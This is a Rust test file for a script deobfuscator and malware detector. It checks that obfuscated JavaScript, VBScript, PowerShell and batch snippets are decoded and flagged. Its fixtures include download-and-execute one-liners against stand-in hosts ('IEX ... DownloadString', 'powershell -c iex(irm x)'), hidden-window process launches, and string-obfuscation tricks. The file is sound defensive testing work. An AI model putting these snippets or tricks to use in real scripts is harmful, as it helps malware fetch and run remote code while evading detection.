use super::*;
use crate::artifact::{Fact, Sign, Tree};
use crate::limits::Limits;

/// The folded texts and the signs of a script in a file of that name.
fn read(name: &str, source: &str) -> (String, Vec<Sign>) {
    let tree = Tree::new(Child::new(name, "attachment", source.as_bytes().to_vec()));
    let artifact = tree.get(0).unwrap();
    let mut out = Opened::default();
    assert!(Scripts.matches(artifact), "{name} is {}", artifact.kind.id);
    Scripts.open(artifact, &Keyring::new(), &mut out, &mut Budget::new(&Limits::default())).unwrap();
    let texts = out.children.first().map(|child| String::from_utf8_lossy(&child.bytes).into_owned());
    let mut signs: Vec<Sign> = out
        .facts
        .iter()
        .filter_map(|fact| match fact {
            Fact::Sign { sign, .. } => Some(*sign),
            _ => None,
        })
        .collect();
    signs.sort_unstable();
    signs.dedup();
    (texts.unwrap_or_default(), signs)
}

/// The signs of a script in a file of that name.
pub(super) fn signs(name: &str, source: &str) -> Vec<Sign> {
    read(name, source).1
}

#[test]
fn arithmetic_is_worked_out_in_the_order_of_its_language() {
    let rows = [
        ("a.js", "x = String.fromCharCode(60+3*4, 4|112, 3^112+7, 240/2-8%9);", "Http"),
        (
            "a.vbs",
            "x = Chr(60 + 3 * 4) & Chr(1 + 315 Mod 200) & Chr(7 Xor 110 + 5) & Chr(240 / 2 - 8)",
            "Http",
        ),
    ];
    for (name, source, want) in rows {
        let (texts, _) = read(name, source);
        assert!(texts.lines().any(|line| line.contains(want)), "{source}\n{texts}");
    }
}

#[test]
fn pieces_become_texts() {
    let rows = [
        ("a.js", "var a = 'WScr' + 'ipt.' + \"Shell\";", "WScript.Shell"),
        ("a.js", "var a = 'WSc'; a += 'ript'; var b = a + '.Shell';", "WScript.Shell"),
        ("a.js", "x = String.fromCharCode(72, 0x74, 116+0, 100 ^ 20);", "Http"),
        ("a.js", "x = '\\x41\\u0042\\103' + 'd';", "ABCd"),
        ("a.js", "x = unescape('%3Chtml%3e%u0041') + '';", "<html>A"),
        ("a.js", "x = ['abc', 'def'].join('') + 'g';", "abcdefg"),
        ("a.js", "x = ['c', 'b', 'ax'].reverse().join('');", "axbc"),
        ("a.js", "x = 'llehS.tpircSW'.split('').reverse().join('');", "WScript.Shell"),
        ("a.js", "x = 'W#Scr#ipt.Sh#ell'.replace(/#/g, '');", "WScript.Shell"),
        ("a.js", "x = 'WqqScqqript'.split('qq').join('');", "WScript"),
        ("a.js", "x = 'W1Sc23ript'.replace(/[0-9]+/g, '') + 'X-y'.replace(/[^A-Z]/g, '');", "WScriptX"),
        (
            "a.js",
            "var t = 'Scriptabc.W'; x = t.charAt(10) + t.substr(0, 6) + t.substring(9, 10);",
            "WScript.",
        ),
        ("a.vbs", "t = \"abcWS\"\nx = Mid(t, 4, 1) & Mid(t, 5, 1) & Mid(t, 3)", "WScWS"),
        ("a.js", "x = 'W1Sc23ript'.replace(/\\d/g, '') + '';", "WScript"),
        (
            "a.js",
            "run(d('W4Sc5ript.Sh6ell')); function d(s) { return s.replace(/[0-9]/g, ''); }",
            "WScript.Shell",
        ),
        ("a.js", "z = this['\\u0041\\u0063tive\\u0058Object'];", "ActiveXObject"),
        ("a.js", "var t = 'W@S@c@r@ipt'; f(t); function f(s) { return s.replace(/@/g, ''); }", "WScript"),
        ("a.js", "var l = ['ht', 'tp', '://x']; y = l[0] + l[1] + l[2];", "http://x"),
        ("a.js", "x = atob('aHR0cDovL2EuZXhhbXBsZQ==') + '/';", "http://a.example/"),
        ("a.js", "x = 'abc' /* 'n' */ + // 'm'\n 'def';", "abcdef"),
        (
            "a.js",
            "var t = 'WZScZrZipZt'; eval(f(t, 'Z')); function f(a, b) { return a.split(b).join(''); }",
            "WScript",
        ),
        ("a.js", "var l = ['WSc', -81], m = [-4, 'ript']; x = l[0] + m[1];", "WScript"),
        ("a.js", "var l = [3, WScript, 'Shell'][2]; x = 'WScript.' + l;", "WScript.Shell"),
        ("a.vbs", "x = \"WScr\" & \"ipt\" & Chr(46) & _\r\n \"Shell\"", "WScript.Shell"),
        ("a.vbs", "x = x & \"po\"\nx = x & \"wer\"\nX = x & \"shell\"", "powershell"),
        ("a.vbs", "y = StrReverse(\"llehs\") ' no", "shell"),
        ("a.vbs", "y = Replace(\"po-wer-shell\", \"-\", \"\")", "powershell"),
        ("a.vbs", "Const k = \"pow\"\ny = k & Chr(&H65) & ChrW(CLng(\"&H72\"))", "power"),
        ("a.vbs", "y = Join(Array(\"a\", \"bb\", \"c\"), \"\")", "abbc"),
        ("a.ps1", "$a = 'Down' + 'load' + \"Str`ing\"", "DownloadString"),
        ("a.ps1", "$a = (\"{1}{0}\" -f 'exec','i')", "iexec"),
        ("a.ps1", "$a = ('i','e','xxx') -join ''", "iexxx"),
        ("a.ps1", "$a = 'iZZexec'.Replace('ZZ','')", "iexec"),
        ("a.ps1", "$a = 'iZZexec' -replace 'ZZ',''", "iexec"),
        ("a.ps1", "$a = [char]105 + [char]0x65 + [char](100+20) + 'y'", "iexy"),
        (
            "a.ps1",
            "$a = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aHR0cDovL2E='))",
            "http://a",
        ),
        ("a.bat", "set a=power\r\nset b=shell\r\n%a%%b% -c 1", "powershell -c 1"),
    ];
    for (name, source, want) in rows {
        let (texts, _) = read(name, source);
        assert!(texts.lines().any(|line| line.contains(want)), "{source}\n{texts}");
    }
}

#[test]
fn what_scripts_do_is_seen() {
    use Sign::*;
    let rows: &[(&str, &str, &[Sign])] = &[
        (
            "a.js",
            "var s = new ActiveXObject('WScr' + 'ipt.Shell'); s.Run(x, 0, false);",
            &[ProcessStart, HiddenWindow, ChoppedText],
        ),
        ("a.vbs", "Set x = CreateObject(\"MSXML2.XMLHTTP\"): x.Open \"GET\", u", &[Download]),
        ("a.vbs", "Execute(f(\"abc\"))", &[Decoding]),
        ("a.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://a.example')", &[Download, Decoding]),
        ("a.ps1", "i`ex $x", &[Decoding]),
        ("a.bat", "start /min p^o^w^e^rshell -w hidden", &[HiddenWindow, Interpreter, ChoppedText]),
        ("a.js", "window.location.href = 'https://a.example';", &[Redirect]),
        ("a.js", "var u = 'https://a.example/x'; location.replace(u);", &[Redirect]),
        ("a.js", "location = atob(x);", &[Redirect]),
        ("a.js", "document.write(unescape('%3Cb'));", &[WritesPage]),
        ("a.js", "var h = atob('PGh0bWw+PGI+'); document.write(h);", &[WritesPage]),
        ("a.js", "a.href = URL.createObjectURL(b); a.download = 'Invoice.zip'; a.click();", &[SavesFile]),
        ("a.js", "navigator.msSaveOrOpenBlob(b, 'scan.iso');", &[SavesFile]),
    ];
    for (name, source, want) in rows {
        let (_, signs) = read(name, source);
        for sign in *want {
            assert!(signs.contains(sign), "{source} lacks {sign:?}: {signs:?}");
        }
    }
}

#[test]
fn what_pages_usually_do_is_not_taken_for_it() {
    for source in [
        "var location = 'a'; if (location == 'b') {}",
        "document.write('<b>' + new Date().getFullYear() + '</b>');",
        "$('#a').html(data); el.innerHTML = '<p>' + name + '</p>';",
        "location.href = '#top';",
        "var s = 'a' + b + 'c';",
    ] {
        assert_eq!(read("a.js", source).1, [], "{source}");
    }
}

#[test]
fn hostile_sources_end() {
    let source = "var a = 'x' + \"\\x41\" + String.fromCharCode(1, 2) /* c */; a = a.replace(/[x]/g, '').split('').join(''); [1,'a'].join('');";
    for length in 0..source.len() {
        for name in ["a.js", "a.vbs", "a.ps1", "a.bat"] {
            read(name, source.get(..length).unwrap());
            let mut bytes = source.as_bytes().to_vec();
            bytes[length] ^= 1 << (length % 7);
            read(name, &String::from_utf8_lossy(&bytes));
        }
    }
    for piece in [
        "(",
        "[",
        "'a'+",
        "a=a+a\n",
        "chr(",
        "[char]",
        "x.split('').join('')",
        "'",
        "\\u",
        "-f ",
        "a=a&\"b\"\n",
        "a += a;",
        "['a','b'].join(",
        "\"{0}{0}\" -f ",
    ] {
        for name in ["a.js", "a.vbs", "a.ps1"] {
            read(name, &piece.repeat(4_000));
        }
    }
    let doubling = "a = 'xxxxxxxxxxxxxxxx';".to_string() + &"a = a + a + a;".repeat(200);
    assert!(read("a.js", &doubling).0.len() <= LONGEST_TEXTS + 1024);
}

#[test]
fn texts_under_functions_of_the_script_are_undone() {
    let hidden = "WScript.Shell";
    let codes = |by: u32, end: &str| {
        hidden.chars().map(|c| format!("({}).y(){end}", u32::from(c) ^ by)).collect::<Vec<_>>().join("")
    };
    let methods = format!(
        "Number.prototype.y = function () {{ return String.fromCharCode(this ^ 91); }}; var w = {}'';",
        codes(91, " + ")
    );
    assert!(read("a.js", &methods).0.contains(hidden), "{methods}");
    let pairs: String = hidden.chars().map(|c| radix(u32::from(c) + 11)).collect();
    let comment = format!(
        "var f = function () {{/*\n{pairs}\n*/}}; var s = f.toString().split('/*')[1], o = '';\n\
         for (var i = 0; i < s.length; i += 2) {{ o += String.fromCharCode(parseInt(s.substr(i, 2), 36) - 11); }}"
    );
    assert!(read("a.js", &comment).0.contains(hidden), "{comment}");
    assert!(read("a.js", "new ActiveXObject(q(\"llehS.tpircSW\"));").0.contains(hidden));
}

/// A number in two digits of base 36.
fn radix(code: u32) -> String {
    [code / 36, code % 36].iter().filter_map(|digit| char::from_digit(*digit, 36)).collect()
}

#[test]
fn what_batch_files_write_and_unroll_is_read() {
    let written = "@echo off\r\n(echo one\r\necho two\r\necho three)>a.txt\r\n";
    assert!(read("a.bat", written).0.contains("one\ntwo\nthree"));
    let looped = "for /f \"tokens=1,2 delims=|\" %%a in (\"power|shell -c iex(irm x)\") do (%%a%%b)\r\n";
    assert!(read("a.bat", looped).0.contains("powershell -c iex(irm x)"));
}

#[test]
fn programs_that_run_text_after_text_hide_it_and_libraries_of_pages_do_not() {
    let runs = "Execute(a(1))\nExecute(a(2))\nx = Eval(a(3))\nExecuteGlobal a(4)\n";
    assert!(signs("a.vbs", runs).contains(&Sign::ChoppedText));
    assert!(!signs("a.vbs", "ExecuteGlobal f.ReadAll\n").contains(&Sign::ChoppedText));
    let library =
        "if (window.x) { r = new ActiveXObject('Microsoft.XMLHTTP'); } q.exec(b.slice(1, 0)); eval(c);";
    assert!(!signs("a.js", library).contains(&Sign::ComputedObject));
    assert!(!signs("a.js", library).contains(&Sign::HiddenWindow));
    let shell = "if (window.x) { r = new ActiveXObject('WScript.Shell'); } eval(c);";
    assert!(signs("a.js", shell).contains(&Sign::ComputedObject));
    let listed = "var k = 'Get-Item|Start-BitsTransfer|Start-Process|Set-Item';";
    assert!(!signs("a.js", listed).contains(&Sign::ProcessStart));
    assert!(signs("a.ps1", "Invoke-Expression $a").contains(&Sign::Decoding));
    assert!(!signs("a.ps1", "Invoke-Expression \"& `\"$NODE`\" $ARGS\"").contains(&Sign::Decoding));
}
